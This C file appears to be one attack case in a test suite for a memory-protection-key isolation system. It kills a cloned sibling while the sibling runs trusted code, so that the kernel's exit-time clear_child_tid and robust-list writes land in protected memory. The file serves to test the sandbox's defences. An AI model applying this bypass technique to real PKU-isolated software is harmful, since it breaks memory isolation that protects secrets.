/* SPDX-License-Identifier: MIT */
/* atk_cleartid.c: kernel writes at task exit, made with the dying task's
 * PKRU.  A task's clear_child_tid (set_tid_address, or clone's
 * CLONE_CHILD_CLEARTID) is zeroed by the kernel when the task exits while
 * its address space lives on.  A task SIGKILLed while it runs trusted code
 * (SIGKILL: no stop erim-tem could hold) exits with the trusted PKRU, so
 * the write lands in trusted memory at an address untrusted code chose.
 * A clone(CLONE_VM) sibling without CLONE_THREAD is its own process: the
 * rest of the address space survives it.
 *
 * Each try: a sibling points its clear_child_tid into the secret (one try
 * with set_tid_address, the next with CLONE_CHILD_CLEARTID), then enters
 * "trusted code" (WRPKRU to the trusted PKRU, work on the secret, WRPKRU
 * back) over and over until the parent kills it.  The attack succeeds when
 * a word of the secret is zero.  The robust futex list head (set_robust_list)
 * is the same kind of address and is tried too. */
#include <sched.h>
#include <time.h>

#include "atk_common.h"

#define OFF_A 1024   /* set_tid_address */
#define OFF_B 2048   /* CLONE_CHILD_CLEARTID */
#define OFF_R 3072   /* set_robust_list head */

static volatile uint64_t sink;
static volatile int sib_refused;   /* the sibling's set_tid_address failed */
static volatile long robust_rc = 1;

__attribute__((noinline)) static void trusted_work(void)
{
	uint64_t s = 0;
	size_t i;

	atk_trusted();
	for (i = 0; i < ATK_SECRET_LEN; i += 8)
		s += atk_secret[i];
	atk_untrusted();
	sink = s;
}

static int sibling(void *arg)
{
	if (arg && syscall(SYS_set_tid_address, (void *)(atk_secret + OFF_A)) < 0) {
		/* set_tid_address never fails in the kernel: refused by a supervisor */
		sib_refused = 1;
		for (;;)
			syscall(SYS_pause);
	}
	for (;;)
		trusted_work();
	return 0;
}

static int word_zero(int off)
{
	uint32_t v;

	atk_trusted();
	v = *(volatile uint32_t *)(atk_secret + off);
	atk_untrusted();
	return v == 0;
}

static enum atk_result atk_attack(void)
{
	static char stk[65536] __attribute__((aligned(16)));
	int tries, refused_a = 0, refused_b = 0;

	/* the robust list head: a sibling-free check of the call itself */
	robust_rc = syscall(SYS_set_robust_list, (void *)(atk_secret + OFF_R), (size_t)24);
	atk_say("set_robust_list(head in trusted memory): %s", robust_rc == 0 ? "accepted" : strerror(errno));
	for (tries = 1; tries <= 200; tries++) {
		struct timespec ts = { 0, 1000000 + (tries % 7) * 131000 };
		int via_clone = tries % 2 == 0;
		pid_t c;
		int st;

		sib_refused = 0;
		if (via_clone)
			c = clone(sibling, stk + sizeof stk, CLONE_VM | CLONE_CHILD_CLEARTID | SIGCHLD, NULL, NULL, NULL,
			          (void *)(atk_secret + OFF_B));
		else
			c = clone(sibling, stk + sizeof stk, CLONE_VM | SIGCHLD, (void *)1);
		if (c < 0) {
			if (via_clone && errno == EPERM) {
				refused_b = 1;
				if (refused_a)
					break;
				continue;
			}
			atk_say("clone: %s", strerror(errno));
			return ATK_ERROR;
		}
		nanosleep(&ts, NULL);
		if (!via_clone && sib_refused)
			refused_a = 1;
		kill(c, SIGKILL);
		waitpid(c, &st, 0);
		if (word_zero(OFF_A) || word_zero(OFF_B)) {
			atk_say("try %d: the sibling died inside trusted code; the kernel zeroed the trusted word at "
			        "secret+%d", tries, word_zero(OFF_A) ? OFF_A : OFF_B);
			return ATK_SUCCEEDED;
		}
		if (refused_a && refused_b)
			break;
	}
	atk_say("set_tid_address into trusted memory %s; clone(CLONE_CHILD_CLEARTID) into trusted memory %s; "
	        "trusted words unchanged", refused_a ? "refused" : "accepted", refused_b ? "refused" : "accepted");
	if (robust_rc == 0 && atk_under_tem)
		return ATK_SUCCEEDED;   /* the head in trusted memory should have been refused */
	return ATK_REFUSED;
}

static const char *atk_name = "atk_cleartid";
static int atk_needs_pku = 0;
